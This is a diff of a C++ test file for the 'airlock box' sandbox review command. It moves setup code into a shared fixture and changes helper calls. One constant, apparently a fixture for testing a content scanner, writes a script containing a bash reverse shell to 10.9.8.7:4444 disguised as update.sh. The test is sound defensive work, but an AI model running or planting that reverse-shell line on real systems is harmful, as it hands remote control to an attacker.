@@ -11,6 +11,7 @@
 
 #include <filesystem>
 
+#include "box_fixture.h"
 #include "test_env.h"
 
 using namespace airlock::test;
@@ -22,39 +23,8 @@ namespace {
 const char* kDropReverseShell =
     "mkdir -p /data/tools && printf '#!/bin/sh\\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1\\n' > /data/tools/update.sh";
 
-class BoxReview : public ::testing::Test {
+class BoxReview : public BoxFixture {
  protected:
-  void SetUp() override {
-    dir_ = MakeTempDir("box-review");
-    tree_ = dir_ + "/tree";
-    store_ = dir_ + "/store";
-    std::filesystem::create_directories(tree_);
-    WriteFile(tree_ + "/a", "orig\n");
-    if (std::string why = IdmapSkipReason(); !why.empty()) GTEST_SKIP() << why;
-  }
-  // Root callers' boxes need idmapped mounts where the test's temporary files live (as box_test.cc).
-  std::string IdmapSkipReason() {
-    if (!IsRoot()) return "";
-    static const std::string why = [this] {
-      BoxCmd({"create", "probe", "--over", tree_ + ":/data"});
-      auto r = BoxCmd({"run", "probe", "--", "/bin/true"});
-      BoxCmd({"rm", "probe"});
-      return r.err.find("cannot be idmapped") != std::string::npos ? "SKIPPED LOUDLY: " + r.err : std::string();
-    }();
-    return why;
-  }
-  void TearDown() override {
-    airlock::test::Run({"/bin/chmod", "-R", "u+rwX", dir_});
-    std::filesystem::remove_all(dir_);
-  }
-
-  // `airlock box` with this test's store; `prefix` goes before the binary (/usr/bin/env VAR=...).
-  RunResult BoxCmd(std::vector<std::string> args, std::vector<std::string> prefix = {}, std::string airlock = "") {
-    std::vector<std::string> argv = std::move(prefix);
-    argv.insert(argv.end(), {airlock.empty() ? AirlockBin() : airlock, "box", "--store", store_});
-    argv.insert(argv.end(), args.begin(), args.end());
-    return airlock::test::Run(argv, "", 180);
-  }
   nlohmann::json ReviewJson(const std::string& box, std::vector<std::string> extra, RunResult* r) {
     std::vector<std::string> args = {"review", box, "--json"};
     args.insert(args.end(), extra.begin(), extra.end());
@@ -77,7 +47,6 @@ class BoxReview : public ::testing::Test {
     return false;
   }
 
-  std::string dir_, tree_, store_;
 };
 
 TEST_F(BoxReview, ContentScanFindsAReverseShellThatNoPathRuleKnows) {
@@ -191,15 +160,15 @@ TEST_F(BoxReview, WithoutTheScannerTheReviewIsAnErrorNeverASilentClean) {
   const std::string bin = dir_ + "/bin";
   std::filesystem::create_directories(bin);
   std::filesystem::copy_file(AirlockBin(), bin + "/airlock");
-  auto r = BoxCmd({"review", "s1"}, {}, bin + "/airlock");
+  auto r = BoxCmdVia({}, bin + "/airlock", {"review", "s1"});
   EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
   EXPECT_NE(r.err.find("airlock-scan was not found"), std::string::npos) << r.err;
   EXPECT_NE(r.err.find("not scanned"), std::string::npos) << r.err;
   EXPECT_EQ(r.out.find("verdict"), std::string::npos) << r.out;
-  auto c = BoxCmd({"commit", "s1"}, {}, bin + "/airlock");
+  auto c = BoxCmdVia({}, bin + "/airlock", {"commit", "s1"});
   EXPECT_NE(c.exit_code, 0);
   EXPECT_FALSE(std::filesystem::exists(tree_ + "/x.txt"));
-  r = BoxCmd({"review", "s1", "--no-scan"}, {}, bin + "/airlock");
+  r = BoxCmdVia({}, bin + "/airlock", {"review", "s1", "--no-scan"});
   EXPECT_EQ(r.exit_code, 0) << r.err;
   EXPECT_NE(r.out.find("content not scanned (--no-scan)"), std::string::npos) << r.out;
 
@@ -209,7 +178,7 @@ TEST_F(BoxReview, WithoutTheScannerTheReviewIsAnErrorNeverASilentClean) {
   WriteFile(fake + "/airlock-scan", "#!/bin/sh\necho 'broken scanner' >&2\nexit 2\n", 0755);
   ::chmod(dir_.c_str(), 0755);  // (the bind root and its file must be readable by the sandbox's ids)
   ::chmod(fake.c_str(), 0755);
-  r = BoxCmd({"review", "s1"}, {"/usr/bin/env", "AIRLOCK_LIBEXEC_DIR=" + fake});
+  r = BoxCmdVia({"/usr/bin/env", "AIRLOCK_LIBEXEC_DIR=" + fake}, AirlockBin(), {"review", "s1"});
   EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
   EXPECT_NE(r.err.find("content scan failed"), std::string::npos) << r.err;
 }
